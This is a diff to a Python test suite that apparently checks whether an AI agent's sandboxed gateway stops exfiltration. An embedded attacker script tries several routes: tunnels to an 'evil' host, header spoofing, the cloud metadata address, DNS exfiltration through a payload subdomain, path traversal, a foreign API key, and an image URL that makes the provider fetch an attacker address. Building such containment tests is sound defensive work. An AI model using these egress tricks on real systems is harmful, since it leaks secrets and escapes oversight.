@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import re
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
@@ -101,19 +102,20 @@ for name, url in (("evil", EVIL), ("github", GITHUB), ("bot", BOT)):
     quietly(f"{{name}} by number", tunnel, "0x7f000001", to.port)
     quietly(f"{{name}} as a whole address", http, gateway, url + "/v1/messages", f"Host: {{to.netloc}}")
     hosts = [f"Host: {{to.netloc}}", f"X-Forwarded-Host: {{to.netloc}}"]
-    quietly(f"{{name}} as host", http, gateway, "/v1/messages", *hosts)
+    quietly(f"{{name}} as host", http, gateway, gateway.path + "/v1/messages", *hosts)
 for host in ("api.anthropic.com", "github.com", "169.254.169.254", "10.0.0.1", "1.1.1.1", "[::1]"):
     quietly(host, tunnel, host, 443)
     quietly(f"{{host}} directly", socket.create_connection, (host.strip("[]"), 443), 3)
 quietly("dns", socket.getaddrinfo, "{PAYLOAD}.example.com", 443)
 quietly("udp", datagram, evil.hostname, evil.port)
 quietly("quic", datagram, "1.1.1.1", 443)
-for path in ("/v1/files", "/v1/messages", "/v1/messages/batches", "/../v1/files", "/v1/%66iles"):
+asked = {{"model": "claude-sonnet-5-5", "max_tokens": 5, "messages": [{{"role": "user", "content": "hi"}}]}}
+for path in ("/v1/files", "/v1/messages", "/v1/messages/batches", "/../v1/files", "/v1/%66iles", "/v1/models"):
     for key in ("{FOREIGN_KEY}", token):
-        quietly(path, http, gateway, path, "Host: x", f"x-api-key: {{key}}", "anthropic-version: 2023-06-01")
-image = {{"type": "image", "source": {{"type": "url", "url": EVIL + "/?d={PAYLOAD}"}}}}
-asked = {{"model": "claude-sonnet-5-5", "max_tokens": 5, "messages": [{{"role": "user", "content": [image]}}]}}
-quietly("fetched by the provider", http, gateway, "/v1/messages", "Host: x", f"x-api-key: {{token}}",
+        quietly(path, http, gateway, gateway.path + path, "Host: x", f"x-api-key: {{key}}",
+                "anthropic-version: 2023-06-01", body=json.dumps(asked))
+asked["messages"][0]["content"] = [{{"type": "image", "source": {{"type": "url", "url": EVIL}}}}]
+quietly("fetched by the provider", http, gateway, gateway.path + "/v1/messages", "Host: x", f"x-api-key: {{token}}",
         "anthropic-version: 2023-06-01", body=json.dumps(asked))
 print("TRIED", len(made), made)
 """
@@ -214,8 +216,9 @@ async def reached_nobody(world: World, attacker: Attacker) -> None:
     inside = [call for call in world.github.calls if PAYLOAD in str(call.headers) or PAYLOAD.encode() in call.body]
     assert [call for call in inside if call.credential != "installation"] == []
     assert {request.path for request in world.model.requests} <= {"/v1/messages", "/v1/messages/count_tokens"}
-    headers = "\n".join(str(request.headers) for request in world.model.requests)
-    assert FOREIGN_KEY not in headers and PAYLOAD not in headers
+    for request in world.model.requests:
+        assert FOREIGN_KEY not in str(request.headers)
+        assert '"type": "url"' not in json.dumps(request.messages), "the provider fetches nothing either"
 
 
 async def moved_nothing_else(world: World, before: dict[str, str]) -> None:
